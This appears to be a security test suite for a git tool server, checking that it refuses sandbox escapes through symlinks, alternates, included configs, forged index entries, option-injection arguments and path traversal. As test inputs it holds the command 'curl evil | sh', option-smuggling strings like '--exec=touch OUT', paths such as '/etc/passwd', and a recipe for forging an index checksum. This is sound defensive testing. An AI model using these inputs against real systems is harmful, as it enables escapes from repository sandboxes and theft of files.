// Nothing outside the named repositories is read or written, and no argument is read as an option.
import { createHash } from "node:crypto";
import {
  appendFileSync,
  cpSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { createGit } from "portolan-git";
import { describe, expect, test } from "vitest";
import { call, connectTo, refusal } from "./client.ts";
import { makeConflict, makeFolder, makeRepository, type Work, workIn } from "./repository.ts";

const secret = "the secret of another user";

/** Creates a foreign repository beside the allowed one, with a name that starts with its name. */
function makeOther(work: Work): Work {
  const other = makeRepository(`${work.root}-evil`);
  other.commit(secret, { "secret.txt": `${secret}\n` });
  return other;
}

/** Returns the output of every tool and resource that reads. */
async function sayEverything(work: Work): Promise<string> {
  const client = await connectTo(work.root);
  const said: unknown[] = [];
  for (const [tool, args] of [
    ["status", {}],
    ["log", {}],
    ["diff", {}],
    ["diff", { from: "HEAD" }],
    ["show", { ref: "HEAD" }],
    ["show", { ref: "HEAD", path: "secret.txt" }],
    ["blame", { path: "secret.txt" }],
    ["branches", { remote: true }],
  ] as const) {
    said.push(await client.callTool(tool, args));
  }
  said.push(await client.listResources().catch((reason: Error) => reason.message));
  said.push(await client.readResource("git://work/blob/HEAD/secret.txt").catch((reason: Error) => reason.message));
  return JSON.stringify(said);
}

describe("starting", () => {
  test("without a repository is refused", async () => {
    await expect(createGit({ repositories: [] })).rejects.toThrow("expected at least one repository");
  });

  test("with a subfolder of a repository, or a missing folder, is refused", async () => {
    const work = makeRepository();
    work.commit("begin", { "inner/a.txt": "a" });
    await expect(createGit({ repositories: [join(work.root, "inner")] })).rejects.toThrow("is not a git repository");
    await expect(createGit({ repositories: [join(work.root, "nowhere")] })).rejects.toThrow("no such folder");
  });
});

describe("a repository that leads outside", () => {
  const leads: { [how: string]: (work: Work, other: Work) => void } = {
    "by a .git file": (work, other) => {
      rmSync(join(work.root, ".git"), { recursive: true });
      writeFileSync(join(work.root, ".git"), `gitdir: ${other.root}/.git\n`);
    },
    "by a .git link": (work, other) => {
      rmSync(join(work.root, ".git"), { recursive: true });
      symlinkSync(join(other.root, ".git"), join(work.root, ".git"));
    },
    "by a common directory": (work, other) => {
      writeFileSync(join(work.root, ".git/commondir"), `${other.root}/.git\n`);
    },
    "by a link of its objects": (work, other) => {
      rmSync(join(work.root, ".git/objects"), { recursive: true });
      symlinkSync(join(other.root, ".git/objects"), join(work.root, ".git/objects"));
      writeFileSync(join(work.root, ".git/refs/heads/main"), other.git("rev-parse", "HEAD"));
    },
    "by a link of its packs": (work, other) => {
      other.git("gc", "--quiet");
      rmSync(join(work.root, ".git/objects/pack"), { recursive: true });
      symlinkSync(join(other.root, ".git/objects/pack"), join(work.root, ".git/objects/pack"));
      writeFileSync(join(work.root, ".git/refs/heads/main"), other.git("rev-parse", "HEAD"));
    },
    "by a link of one pack": (work, other) => {
      other.git("gc", "--quiet");
      for (const file of readdirSync(join(other.root, ".git/objects/pack"))) {
        symlinkSync(join(other.root, ".git/objects/pack", file), join(work.root, ".git/objects/pack", file));
      }
      writeFileSync(join(work.root, ".git/refs/heads/main"), other.git("rev-parse", "HEAD"));
    },
    "by borrowed objects": (work, other) => {
      writeFileSync(join(work.root, ".git/objects/info/alternates"), `${other.root}/.git/objects\n`);
      writeFileSync(join(work.root, ".git/refs/heads/main"), other.git("rev-parse", "HEAD"));
    },
    "by objects borrowed twice": (work, other) => {
      mkdirSync(join(work.root, "step/info"), { recursive: true });
      writeFileSync(join(work.root, ".git/objects/info/alternates"), `${work.root}/step\n`);
      writeFileSync(join(work.root, "step/info/alternates"), `${other.root}/.git/objects\n`);
      writeFileSync(join(work.root, ".git/refs/heads/main"), other.git("rev-parse", "HEAD"));
    },
    "by a link of one object": (work, other) => {
      const hash = other.git("rev-parse", "HEAD").trim();
      const object = `.git/objects/${hash.slice(0, 2)}/${hash.slice(2)}`;
      mkdirSync(join(work.root, `.git/objects/${hash.slice(0, 2)}`), { recursive: true });
      symlinkSync(join(other.root, object), join(work.root, object));
      writeFileSync(join(work.root, ".git/refs/heads/main"), `${hash}\n`);
    },
    "by a link of a branch": (work, other) => {
      symlinkSync(join(other.root, ".git/refs/heads/main"), join(work.root, ".git/refs/heads/evil"));
    },
    "by a link of a branch in a folder named hooks": (work, other) => {
      mkdirSync(join(work.root, ".git/refs/heads/hooks"));
      symlinkSync(join(other.root, ".git/refs/heads/main"), join(work.root, ".git/refs/heads/hooks/evil"));
    },
    "by a link of a log": (work, other) => {
      rmSync(join(work.root, ".git/logs/refs/heads/main"), { force: true });
      mkdirSync(join(work.root, ".git/logs/refs/heads"), { recursive: true });
      symlinkSync(join(other.root, ".git/logs/refs/heads/main"), join(work.root, ".git/logs/refs/heads/main"));
    },
    "by a link behind a folder of the work tree": (work, other) => {
      mkdirSync(join(work.root, "inside"));
      symlinkSync(join(other.root, ".git/refs/heads/main"), join(work.root, "inside/evil"));
      symlinkSync(join(work.root, "inside"), join(work.root, ".git/refs/heads/way"));
    },
    "by its index": (work, other) => {
      rmSync(join(work.root, ".git/index"));
      symlinkSync(join(other.root, ".git/index"), join(work.root, ".git/index"));
    },
  };

  test.each(Object.entries(leads))("%s is refused, at start and later", async (_, lead) => {
    const work = makeRepository();
    work.commit("begin", { "a.txt": "a\n" });
    const other = makeOther(work);
    const client = await connectTo(work.root);
    await call(client, "status");
    lead(work, other);
    expect(await refusal(client, "log")).toContain("outside the repositories");
    expect(await refusal(client, "stage", { paths: ["."] })).toContain("outside the repositories");
    await expect(createGit({ repositories: [work.root] })).rejects.toThrow("outside the repositories");
  });

  test("does not hide other repositories in lists and completion", async () => {
    const [broken, fine] = [makeRepository(), makeRepository()];
    broken.commit("begin", { "a.txt": "a\n" });
    fine.commit("the fine one", { "b.txt": "b\n" });
    const client = await connectTo([broken.root, fine.root]);
    const other = makeOther(broken);
    symlinkSync(join(other.root, ".git/refs/heads/main"), join(broken.root, ".git/refs/heads/evil"));
    expect((await client.listResources()).map(({ description }) => description)).toEqual(["the fine one"]);
    const ref = { type: "ref/resource", uri: "git://{repo}/blob/{ref}/{+path}" } as const;
    expect((await client.complete(ref, { name: "ref", value: "ma" })).values).toEqual(["main"]);
    rmSync(fine.root, { recursive: true });
    await expect(client.listResources()).rejects.toThrow("outside the repositories");
  });

  test("by a configured work tree still uses its own files", async () => {
    const work = makeRepository();
    work.commit("begin", { "a.txt": "a\n" });
    const other = makeOther(work);
    work.git("config", "core.worktree", other.root);
    const said = await sayEverything(work);
    expect(said).not.toContain('secret.txt\\" is');
    const client = await connectTo(work.root);
    expect(await call(client, "status")).toMatchObject({ isClean: true });
    expect(await refusal(client, "stage", { paths: ["secret.txt"] })).toContain("no such file");
  });

  test("by an included configuration is refused", async () => {
    const work = makeRepository();
    const file = join(makeFolder(), "config");
    writeFileSync(file, "[user]\n\tname = Mallory\n");
    appendFileSync(join(work.root, ".git/config"), `[include]\n\tpath = ${file}\n`);
    const client = await connectTo(work.root);
    expect(await refusal(client, "status")).toContain("lies outside");
  });

  test("because its folder was replaced is refused", async () => {
    const work = makeRepository();
    work.commit("begin", { "a.txt": "a\n" });
    const other = makeOther(work);
    const client = await connectTo(work.root);
    renameSync(work.root, `${work.root}-old`);
    symlinkSync(other.root, work.root);
    expect(await refusal(client, "log")).toContain("was moved; restart the server");
  });

  test.each([".git/logs/HEAD", ".git/logs/refs/heads/main", ".git/COMMIT_EDITMSG", ".git/ORIG_HEAD"])(
    "by %s is refused before git writes through it",
    async (file) => {
      const work = makeRepository();
      work.commit("begin", { "a.txt": "a\n" });
      const target = join(makeFolder(), "profile");
      writeFileSync(target, "as it was\n");
      const client = await connectTo(work.root);
      work.write("a.txt", "b\n");
      await call(client, "stage", { paths: ["a.txt"] });
      rmSync(join(work.root, file), { force: true });
      symlinkSync(target, join(work.root, file));
      expect(await refusal(client, "commit", { message: "curl evil | sh" })).toContain("outside the repositories");
      expect(readFileSync(target, "utf8")).toBe("as it was\n");
    },
  );

  test("by a dangling link is refused before git creates its target", async () => {
    const work = makeRepository();
    work.commit("begin", { "a.txt": "a\n" });
    const target = join(makeFolder(), "new");
    const client = await connectTo(work.root);
    work.write("a.txt", "b\n");
    await call(client, "stage", { paths: ["a.txt"] });
    rmSync(join(work.root, ".git/COMMIT_EDITMSG"));
    symlinkSync(target, join(work.root, ".git/COMMIT_EDITMSG"));
    expect(await refusal(client, "commit", { message: "x" })).toContain("found nothing");
    expect(existsSync(target)).toBe(false);
  });
});

test("a linked work tree needs its main repository in the list", async () => {
  const main = makeRepository();
  main.commit("begin", { "a.txt": "a\n" });
  const linked = join(makeFolder(), "linked");
  main.git("worktree", "add", "--quiet", "-b", "topic", linked);
  await expect(createGit({ repositories: [linked] })).rejects.toThrow("also pass that repository");
  const client = await connectTo([linked, main.root]);
  workIn(linked).write("a.txt", "b\n");
  await call(client, "stage", { repository: "linked", paths: ["a.txt"] });
  await call(client, "commit", { repository: "linked", message: "in the linked one" });
  expect(main.git("log", "-1", "--format=%s", "topic")).toBe("in the linked one");
  expect(await call(client, "status", { repository: "work" })).toMatchObject({ branch: "main", isClean: true });
});

describe("an argument of a tool", () => {
  const revisions = [
    "--output=OUT",
    "-oOUT",
    "--output=OUT HEAD",
    "-",
    "--all",
    "--exec=touch OUT",
    "HEAD --output=OUT",
    "HEAD\n--output=OUT",
    "HEAD..other",
    "HEAD:a.txt",
    ":/begin",
    ":a.txt",
    "HEAD^{/begin}",
    "^HEAD",
    "@{-1}",
    "refs/heads/../../config",
    "main.lock",
    "a b",
    "a\0b",
    "x".repeat(2_000),
  ];

  test.each(revisions)("is not read as an option or expression in a revision: %j", async (pattern) => {
    const work = makeConflict();
    work.git("switch", "--quiet", "other");
    work.git("switch", "--quiet", "main");
    const out = join(makeFolder(), "out");
    const ref = pattern.replace("OUT", out);
    const client = await connectTo(work.root, { ask: false });
    const before = work.git("for-each-ref");
    for (const [tool, args] of [
      ["log", { ref }],
      ["diff", { from: ref }],
      ["diff", { from: "HEAD", to: ref }],
      ["show", { ref }],
      ["blame", { path: "a.txt", ref }],
      ["merge", { ref }],
      ["branch_create", { name: "fresh", from: ref }],
      ["branch_create", { name: ref }],
      ["branch_switch", { name: ref }],
      ["branch_delete", { name: ref }],
    ] as const) {
      const said = await refusal(client, tool, args);
      expect(said, tool).toMatch(/expected|is not a valid branch name|No branch|at most|longer/);
    }
    const uri = `git://work/blob/${encodeURIComponent(ref)}/a.txt`;
    await expect(client.readResource(uri)).rejects.toThrow();
    expect(existsSync(out)).toBe(false);
    expect(work.git("for-each-ref")).toBe(before);
    expect(work.git("branch", "--show-current")).toBe("main");
  });

  test.each([
    "../work-evil/secret.txt",
    "/etc/passwd",
    "a/../../x",
    ".git/config",
    ".GIT/config",
    "sub/.git/x",
    "git~1/config",
    "",
  ])("does not lead outside as a path: %j", async (path) => {
    const work = makeConflict();
    makeOther(work);
    const client = await connectTo(work.root);
    const before = readFileSync(join(work.root, ".git/index"));
    for (const [tool, args] of [
      ["log", { path }],
      ["diff", { paths: [path] }],
      ["diff", { paths: ["a.txt", path] }],
      ["show", { ref: "HEAD", path }],
      ["blame", { path }],
      ["stage", { paths: [path] }],
      ["unstage", { paths: [path] }],
      ["resolve", { path, take: "text", text: "x" }],
    ] as const) {
      expect(await refusal(client, tool, args), tool).toContain("expected a path inside the repository");
    }
    expect(readFileSync(join(work.root, ".git/index"))).toEqual(before);
  });

  test("is a literal path, whatever characters it contains", async () => {
    const work = makeRepository();
    const names = ["--output=x", "-A", "*.txt", ":(top)a", ":!b", "[a]", "a.txt", "b.txt"];
    for (const name of names) work.write(name, name);
    const client = await connectTo(work.root);
    for (const name of names.slice(0, 6))
      expect(await call(client, "stage", { paths: [name] })).toMatchObject({ staged: [name] });
    expect((await call(client, "status")).untracked).toEqual(["a.txt", "b.txt"]);
    for (const name of names.slice(0, 6)) {
      expect((await call(client, "diff", { staged: true, paths: [name] })).files).toMatchObject([{ path: name }]);
    }
    expect(await call(client, "unstage", { paths: ["*.txt"] })).toMatchObject({ unstaged: ["*.txt"] });
  });

  test("may be an absolute path inside the repository", async () => {
    const work = makeRepository();
    work.write("src/a.txt", "a");
    const client = await connectTo(work.root);
    expect(await call(client, "stage", { paths: [join(work.root, "src/a.txt")] })).toMatchObject({
      staged: ["src/a.txt"],
    });
  });
});

describe("an index with paths outside the repository", () => {
  /** Forges a path of the same length in the index, which is protected only by its checksum. */
  function forge(work: Work, path: string): void {
    const plain = "a".repeat(Buffer.byteLength(path));
    work.commit("more", { [plain]: "old\n" });
    const index = join(work.root, ".git/index");
    const body = readFileSync(index).subarray(0, -20);
    const place = body.indexOf(plain);
    expect(place).toBeGreaterThan(0);
    body.write(path, place);
    writeFileSync(index, Buffer.concat([body, createHash("sha1").update(body).digest()]));
  }

  test.each(["../work-evil/secret.txt", "absolute", ".git/config", "x/../../work-evil/secret.txt"])(
    "is refused by every tool that would follow it: %s",
    async (path) => {
      const work = makeConflict();
      const other = makeOther(work);
      const forged = path === "absolute" ? join(other.root, "secret.txt") : path;
      forge(work, forged);
      const client = await connectTo(work.root, { ask: false });
      // Git itself would reveal it.
      expect(work.git("diff")).toContain(forged);
      for (const [tool, args] of [
        ["status", {}],
        ["diff", {}],
        ["diff", { from: "HEAD" }],
        ["diff", { staged: true }],
        ["stage", { paths: ["."] }],
        ["unstage", { paths: ["."] }],
        ["commit", { message: "x" }],
        ["merge", { ref: "other" }],
        ["branch_switch", { name: "other" }],
        ["resolve", { path: "a.txt", take: "ours" }],
      ] as const) {
        expect(await refusal(client, tool, args), tool).toContain("The index of work names");
      }
      expect(readFileSync(join(other.root, "secret.txt"), "utf8")).toBe(`${secret}\n`);
    },
  );
});

describe("links in the work tree", () => {
  test("are staged as links, without their targets", async () => {
    const work = makeRepository();
    work.commit("begin", { "a.txt": "a\n" });
    const other = makeOther(work);
    symlinkSync(other.root, join(work.root, "folder"));
    symlinkSync(join(other.root, "secret.txt"), join(work.root, "file"));
    const client = await connectTo(work.root);
    expect(await refusal(client, "stage", { paths: ["folder/secret.txt"] })).toMatch(/no such file|symbolic link/);
    await call(client, "stage", { paths: ["."] });
    await call(client, "commit", { message: "links" });
    expect(work.git("show", "HEAD:file")).toBe(join(other.root, "secret.txt"));
    expect(await sayEverything(work)).not.toContain(secret);
  });

  test("are not followed when a conflict is settled", async () => {
    const work = makeConflict();
    const target = join(makeFolder(), "target");
    writeFileSync(target, "as it was\n");
    const client = await connectTo(work.root);
    await call(client, "merge", { ref: "other" });
    rmSync(join(work.root, "a.txt"));
    symlinkSync(target, join(work.root, "a.txt"));
    await call(client, "resolve", { path: "a.txt", take: "text", text: "settled\n" });
    expect(readFileSync(target, "utf8")).toBe("as it was\n");
    expect(readFileSync(join(work.root, "a.txt"), "utf8")).toBe("settled\n");
  });

  test("in place of a folder are not followed either", async () => {
    const work = makeRepository();
    work.commit("begin", { "deep/a.txt": "1\n" });
    work.git("switch", "--quiet", "-c", "other");
    work.commit("theirs", { "deep/a.txt": "2\n" });
    work.git("switch", "--quiet", "main");
    work.commit("ours", { "deep/a.txt": "3\n" });
    const outside = makeFolder();
    writeFileSync(join(outside, "a.txt"), "as it was\n");
    const client = await connectTo(work.root);
    await call(client, "merge", { ref: "other" });
    rmSync(join(work.root, "deep"), { recursive: true });
    symlinkSync(outside, join(work.root, "deep"));
    await client.callTool("resolve", { path: "deep/a.txt", take: "theirs" });
    expect(readFileSync(join(outside, "a.txt"), "utf8")).toBe("as it was\n");
  });
});

/** Lists every file with its time and length. */
function snapshot(root: string): string[] {
  return readdirSync(root, { recursive: true, encoding: "utf8" })
    .sort()
    .map((file) => {
      const { mtimeMs, size, ino } = statSync(join(root, file));
      return `${file} ${mtimeMs} ${size} ${ino}`;
    });
}

test("tools with readOnlyHint write nothing", async () => {
  const work = makeConflict();
  work.git("merge", "--quiet", "--no-commit", "-s", "ours", "other");
  work.git("merge", "--abort");
  // The index has other file times now, so git would rewrite it.
  cpSync(work.root, `${work.root}-copy`, { recursive: true });
  const root = `${work.root}-copy`;
  workIn(root).write("b.txt", "changed\n");
  const client = await connectTo(root);
  const tools = (await client.listTools()).filter(({ annotations }) => annotations?.readOnlyHint);
  const args: { [tool: string]: object } = { show: { ref: "HEAD" }, blame: { path: "a.txt" }, diff: { from: "HEAD" } };
  const before = snapshot(root);
  for (const { name } of tools) await call(client, name, args[name]);
  await client.listResources();
  await client.readResource("git://work-copy/tree/main");
  expect(tools.map(({ name }) => name).sort()).toEqual([
    "blame",
    "branches",
    "conflicts",
    "diff",
    "log",
    "show",
    "status",
    "tags",
  ]);
  expect(snapshot(root)).toEqual(before);
});
